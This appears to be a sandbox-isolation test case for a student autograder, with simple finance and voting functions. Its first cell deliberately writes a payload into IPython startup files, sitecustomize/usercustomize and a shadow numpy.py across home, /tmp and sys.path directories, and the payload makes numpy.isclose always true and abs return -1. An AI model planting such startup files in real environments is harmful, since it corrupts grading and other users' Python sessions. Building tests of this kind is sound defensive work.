# ---
# case: 14
# what: writes start-up files that would run for the next student
# points: 7
# sandbox: needed
# then: unaffected
# ---

# %% first
import os
import pathlib
import site
import sys

evil = "import numpy, builtins\nnumpy.isclose = lambda *a, **k: True\nbuiltins.abs = lambda v: -1\n"
homes = [os.path.expanduser("~"), "/home", "/root", "/tmp", site.getusersitepackages(), *sys.path]
for home in homes:
    for name in (".ipython/profile_default/startup/00.py", "usercustomize.py", "sitecustomize.py", "numpy.py"):
        try:
            path = pathlib.Path(home) / name
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(evil)
        except OSError:
            pass

# %% interest
def interest(balance, rate, years):
    return float(balance * (1 + rate) ** years)

# %% account
class Account:
    def __init__(self, balance=0):
        self.balance = balance

    def deposit(self, amount):
        self.balance += amount

    def withdraw(self, amount):
        if amount > self.balance:
            raise ValueError("not enough")
        self.balance -= amount

# %% agreement
def agreement(votes):
    return max(votes.count(vote) for vote in votes) / len(votes)
